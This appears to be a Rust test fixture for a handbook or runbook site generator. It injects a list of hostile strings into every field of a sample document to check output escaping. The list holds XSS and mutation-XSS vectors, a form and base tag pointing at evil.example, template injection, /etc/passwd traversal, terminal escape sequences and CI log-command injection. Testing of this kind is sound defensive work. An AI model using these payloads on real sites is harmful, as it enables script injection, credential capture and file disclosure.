//! A handbook in which everything that somebody else wrote is an attack.

use std::sync::Arc;

use crate::model::evidence::{Content, FailedCase};
use crate::model::finding::{Finding, Problem};
use crate::model::handbook::Handbook;
use crate::model::history::Commit;
use crate::model::reason::Reason;
use crate::model::release::Notes;
use crate::model::runbook::Runbook;
use crate::site::sample::{self, content_id, text};

/// Attacks on a page; each sets `__pwn` if it works.
pub(crate) const PAYLOADS: &[&str] = &[
    "<script>window.__pwn=1</script>",
    "<img src=x onerror=window.__pwn=1>",
    "<svg onload=window.__pwn=1>",
    "<svg><script>window.__pwn=1</script></svg>",
    "\"><img src=x onerror=window.__pwn=1>",
    "' onmouseover='window.__pwn=1",
    "\" onfocus=\"window.__pwn=1\" autofocus=\"",
    "javascript:window.__pwn=1",
    "</title><script>window.__pwn=1</script>",
    "</main></body><h1>Approved</h1>",
    "</script><script>window.__pwn=1</script>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<style>*{display:none}</style>",
    "<iframe srcdoc=\"<script>parent.__pwn=1</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__pwn=1&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwn=1>\">",
    "<!--sprite--><!-- --><![CDATA[ <plaintext>",
    "{{ site.commit.id }}{% include \"base.html\" %}{{ get_env(name=\"HOME\") }}",
    "../../../etc/passwd",
    "..\\..\\x%2e%2e%2f",
    "a\u{202e}b\u{2066}c\u{0}\u{1b}]52;c;x\u{7}\u{9b}2K",
    "x\n::error::y\r\n::set-env name=PATH::z",
    "`<b>` and `",
    "__proto__",
    "<a href=\"javascript:window.__pwn=1\">a</a>",
];

/// A text with an attack in every place that Markdown has.
pub(crate) fn markdown(payload: &str) -> String {
    let line = payload.replace(['\n', '\r'], " ");
    format!(
        "# T {line}\n\n**Owner:** {line}\n\n{payload}\n\n## {line}\n\n[{line}](https://example.org) [a]({line}) [b](<{line}>) \
         [c](x \"{line}\") ![{line}]({line})\n\n```{line}\n{payload}\n```\n\n```sh\n{payload}\n```\n\n```console\n$ {line}\n{line}\n```\n\n| {line} \
         |\n|---|\n| {line} |\n\n- [ ] {line}\n- Role: {line}, {line}\n- error rate {line}\n\n1. {line}\n1. {line}\n\n> {line}\n\n> \
         [!WARNING]\n> {line}\n\n[^x]: {line}\n\n*{line}* **{line}** ~~{line}~~ `{line}` <{line}> [^x] [^{line}]\n\n[r]: {line}\n\n[r]\n"
    )
}

/// The sample with an attack in every string.
pub(crate) fn handbook(payload: &str) -> Handbook {
    let mut handbook = sample::handbook();
    let evil = |text: &mut String| {
        text.push(' ');
        text.push_str(payload);
    };
    evil(&mut handbook.title);
    if let Some(commit) = &mut handbook.commit {
        *commit = hostile_commit(commit, payload);
    }
    handbook
        .findings
        .iter_mut()
        .for_each(|finding| hostile_finding(finding, payload));
    for product in &mut handbook.products {
        evil(&mut product.prefix);
        evil(&mut product.name);
        evil(&mut product.summary);
        product
            .findings
            .iter_mut()
            .for_each(|finding| hostile_finding(finding, payload));
        hostile_notes(&mut product.coming, payload);
        for tag in &mut product.left_out_tags {
            evil(&mut tag.name);
            evil(&mut tag.reason);
        }
        sample::audit::hostile(&mut product.trail, &mut product.populations, payload);
        sample::audit::hostile_controls(&mut product.controls, payload);
        sample::audit::hostile_support(&mut product.support, &mut product.kept, payload);
        for gate in &mut product.gates {
            evil(&mut gate.title);
            evil(&mut gate.id);
            if let Some(format) = &mut gate.demand.format {
                evil(format);
            }
            gate.demand.at_least.iter_mut().for_each(|(metric, _)| evil(metric));
        }
        for log in &mut product.logs {
            evil(&mut log.path);
            evil(&mut log.title);
            log.columns.iter_mut().for_each(evil);
            log.rows.iter_mut().flat_map(|row| &mut row.cells).for_each(evil);
            log.problems.push(Problem::of_file(payload));
        }
        for edition in &mut product.editions {
            evil(&mut edition.id);
            evil(&mut edition.version);
            if let Some(commit) = &mut edition.commit {
                *commit = hostile_commit(commit, payload);
            }
            for judged in &mut edition.runbooks {
                evil(&mut judged.runbook.path);
                evil(&mut judged.runbook.slug);
                evil(&mut judged.freshness.reason);
                judged
                    .commits
                    .iter_mut()
                    .for_each(|commit| *commit = hostile_commit(commit, payload));
                judged
                    .findings
                    .iter_mut()
                    .for_each(|finding| hostile_finding(finding, payload));
                let mut runbook = text::runbook(&format!("{}\n{}", judged.runbook.runbook.text, markdown(payload)));
                hostile_runbook(&mut runbook, payload);
                judged.runbook.content = content_id(&runbook.text);
                let mut resolutions = judged.resolutions.clone();
                for resolution in &mut resolutions {
                    let mut reason = resolution.reason.to_string();
                    evil(&mut reason);
                    resolution.reason = Reason::Words(reason);
                    resolution.target.get_or_insert_default().push_str(payload);
                    resolution.suggestion.get_or_insert_default().push_str(payload);
                }
                judged.resolutions = resolutions;
                judged.runbook.runbook = Arc::new(runbook);
            }
        }
        for judged in &mut product.releases {
            hostile_release(judged, payload);
        }
    }
    handbook
}

fn hostile_commit(commit: &Commit, payload: &str) -> Arc<Commit> {
    Arc::new(Commit {
        subject: format!("{} {payload}", commit.subject),
        author: format!("{} {payload}", commit.author),
        ..commit.clone()
    })
}

fn hostile_finding(finding: &mut Finding, payload: &str) {
    for text in [&mut finding.path, &mut finding.message] {
        text.push_str(payload);
    }
    for text in [&mut finding.help, &mut finding.reference, &mut finding.suggestion] {
        text.get_or_insert_default().push_str(payload);
    }
    for related in &mut finding.related {
        related.path.push_str(payload);
        related.message.push_str(payload);
    }
}

fn hostile_runbook(runbook: &mut Runbook, payload: &str) {
    for text in [&mut runbook.title, &mut runbook.summary] {
        text.get_or_insert_default().push_str(payload);
    }
    runbook
        .metadata
        .owners
        .iter_mut()
        .for_each(|owner| owner.value.push_str(payload));
    for section in &mut runbook.sections {
        section.title.push_str(payload);
        section.anchor.push_str(payload);
    }
    for block in &mut runbook.code_blocks {
        block.language.push_str(payload);
        block.text.push_str(payload);
        block.commands.iter_mut().for_each(|command| command.text.push_str(payload));
    }
    runbook.steps.iter_mut().for_each(|step| step.text.push_str(payload));
    runbook
        .criteria
        .iter_mut()
        .for_each(|criterion| criterion.text.push_str(payload));
    runbook
        .schedules
        .iter_mut()
        .for_each(|schedule| schedule.text.push_str(payload));
    runbook
        .references
        .iter_mut()
        .for_each(|reference| reference.text.push_str(payload));
    for role in &mut runbook.roles {
        role.name.push_str(payload);
        role.duty.push_str(payload);
    }
    runbook.problems.push(Problem::at(1, payload));
}

fn hostile_release(judged: &mut crate::model::handbook::JudgedRelease, payload: &str) {
    let evil = |text: &mut String| {
        text.push(' ');
        text.push_str(payload);
    };
    for act in &mut judged.separation.acts {
        for text in [&mut act.act, &mut act.role, &mut act.who, &mut act.at, &mut act.from] {
            evil(text);
        }
    }
    judged.separation.said.iter_mut().for_each(|said| evil(&mut said.sentence));
    let release = &mut judged.release;
    evil(&mut release.version);
    evil(&mut release.slug);
    release.problems.push(Problem::of_file(payload));
    if let Some(commit) = &mut release.commit {
        evil(commit);
    }
    if let Some(tag) = &mut release.tag {
        evil(&mut tag.name);
        evil(&mut tag.message);
        tag.tagger.as_mut().into_iter().for_each(evil);
    }
    if let Some(record) = &mut release.record {
        evil(&mut record.path);
        record.note.as_mut().into_iter().for_each(evil);
        for event in &mut record.timeline {
            evil(&mut event.event);
            event.by.as_mut().into_iter().for_each(evil);
            event.note.as_mut().into_iter().for_each(evil);
            event.gate.as_mut().into_iter().for_each(evil);
        }
        for file in &mut record.files {
            evil(&mut file.path);
            evil(&mut file.sha256);
        }
    }
    hostile_notes(&mut release.notes, payload);
    for file in &mut release.evidence {
        evil(&mut file.path);
        evil(&mut file.repository_path);
        evil(&mut file.sha256);
        file.gate.as_mut().into_iter().for_each(evil);
        file.excerpt.get_or_insert_default().push_str(payload);
        file.artifact.problems.push(Problem::at(9, payload));
        file.artifact.about.times.push(payload.to_owned());
        match &mut file.artifact.content {
            Content::Tests(facts) => {
                facts.failed.push(FailedCase {
                    name: payload.to_owned(),
                    message: payload.to_owned(),
                });
            }
            Content::Findings(facts) => {
                facts.tools.iter_mut().for_each(evil);
                facts.levels.iter_mut().for_each(|(level, _)| evil(level));
                for finding in &mut facts.findings {
                    for text in [&mut finding.rule, &mut finding.level, &mut finding.message, &mut finding.path] {
                        evil(text);
                    }
                }
            }
            Content::Sbom(sbom) => {
                evil(&mut sbom.standard_version);
                sbom.tools.iter_mut().for_each(evil);
                sbom.created.as_mut().into_iter().for_each(evil);
                sbom.subject.as_mut().into_iter().for_each(evil);
                for component in sbom.components.iter_mut().map(Arc::make_mut) {
                    for text in [
                        &mut component.identity, &mut component.name, &mut component.version, &mut component.licence,
                    ] {
                        evil(text);
                    }
                }
            }
            Content::Metrics(facts) => {
                for metric in &mut facts.metrics {
                    for text in [&mut metric.name, &mut metric.of, &mut metric.limit] {
                        evil(text);
                    }
                }
            }
            Content::Provenance(facts) => {
                for statement in &mut facts.statements {
                    evil(&mut statement.predicate_type);
                    statement.subjects.iter_mut().for_each(|subject| evil(&mut subject.name));
                }
            }
            Content::Advisories(facts) => {
                for statement in &mut facts.statements {
                    for text in [
                        &mut statement.vulnerability,
                        &mut statement.status,
                        &mut statement.justification,
                    ] {
                        evil(text);
                    }
                }
            }
            Content::Signoffs(signoffs) => {
                for signoff in signoffs {
                    for text in [&mut signoff.role, &mut signoff.decision, &mut signoff.at, &mut signoff.note] {
                        evil(text);
                    }
                }
            }
            Content::Phases(phases) => {
                for phase in phases {
                    for text in [&mut phase.title, &mut phase.state, &mut phase.by, &mut phase.note] {
                        evil(text);
                    }
                }
            }
            Content::Series(series) => {
                for point in &mut series.points {
                    for text in [&mut point.metric, &mut point.labels, &mut point.at, &mut point.note] {
                        evil(text);
                    }
                }
            }
            Content::Coverage(_) | Content::Unread => {}
        }
    }
    for gate in &mut judged.verdict.gates {
        evil(&mut gate.gate);
        evil(&mut gate.value);
        gate.reasons.iter_mut().for_each(evil);
        gate.evidence.iter_mut().for_each(evil);
    }
    if let Some(changes) = &mut judged.components {
        evil(&mut changes.base);
        for change in &mut changes.changes {
            let names = [&mut change.name, &mut change.licence_before, &mut change.licence_after];
            for text in names.into_iter().chain(&mut change.through) {
                evil(text);
            }
            change.after.iter_mut().for_each(evil);
        }
    }
    judged.edition_absent.as_mut().into_iter().for_each(evil);
}

fn hostile_notes(all: &mut [Notes], payload: &str) {
    let evil = |text: &mut String| text.push_str(payload);
    for notes in all {
        evil(&mut notes.path);
        for group in &mut notes.groups {
            evil(&mut group.title);
            group.items.iter_mut().for_each(evil);
        }
    }
}
